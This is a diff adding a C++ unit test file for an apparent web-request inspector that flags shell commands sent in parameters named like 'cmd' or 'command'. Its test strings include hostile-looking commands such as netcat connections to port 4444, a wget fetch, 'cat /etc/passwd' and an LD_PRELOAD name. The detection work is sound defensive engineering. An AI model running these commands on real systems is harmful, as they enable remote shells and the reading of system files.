@@ -1,0 +1,46 @@
+#include "inspect/shell/named.h"
+
+#include <gtest/gtest.h>
+
+namespace onesec::inspect {
+namespace {
+
+std::uint32_t points(std::string_view name, std::string_view text, Part part = Part::QueryValue) {
+  Reasons out;
+  shell::read_named({part, name, text}, text, out);
+  return out.points(Attack::Shell);
+}
+
+TEST(NamedCommand, WebShellsAreAsked) {
+  for (const std::string_view text :
+       {"id", "whoami", "ps aux", "uname -a", "ls -la", "ls /srv", "cat notes.txt", "cat /etc/group", "dir", "net user",
+        "wget http://host.example/a", "nc 192.0.2.7 4444", "/usr/bin/id", "whoami.exe", "tar -czf /tmp/a.tgz /srv"}) {
+    EXPECT_GE(points("cmd", text), kThreshold) << text;
+    EXPECT_GE(points("sys_exec", text), kThreshold) << text;
+    EXPECT_GE(points("shellCommand", text), kThreshold) << text;
+    EXPECT_EQ(points("q", text), 0U) << text;
+    EXPECT_EQ(points("executive", text), 0U) << text;
+  }
+}
+TEST(NamedCommand, OtherThingsThatAreCalledCommands) {
+  // File managers, payments, games, boards, routers.
+  for (const std::string_view text :
+       {"ls", "open", "mkdir", "rm", "get", "file", "search", "_xclick", "install", "start", "view page",
+        "ping 192.0.2.7", "time", "help me", "set volume", "12", "print 2", "id 12"})
+    EXPECT_EQ(points("cmd", text), 0U) << text;
+}
+TEST(NamedCommand, SettingsOfProgramsInDocuments) {
+  for (const std::string_view text :
+       {"node server.js", "npm run build", "/bin/bash", "python -m http.server", "ls -la"})
+    EXPECT_EQ(points("command", text, Part::JsonValue), 0U) << text;
+  for (const std::string_view text : {"whoami", "nc host.example 4444", "cat /etc/passwd"})
+    EXPECT_GE(points("command", text, Part::JsonValue), kThreshold) << text;
+}
+TEST(NamedCommand, VariablesThatLoadCode) {
+  EXPECT_GE(points("", "LD_PRELOAD", Part::QueryName), kThreshold);
+  EXPECT_EQ(points("", "LD_PRELOADED", Part::QueryName), 0U);
+  EXPECT_EQ(points("", "LD_PRELOAD", Part::QueryValue), 0U);
+}
+
+}  // namespace
+}  // namespace onesec::inspect
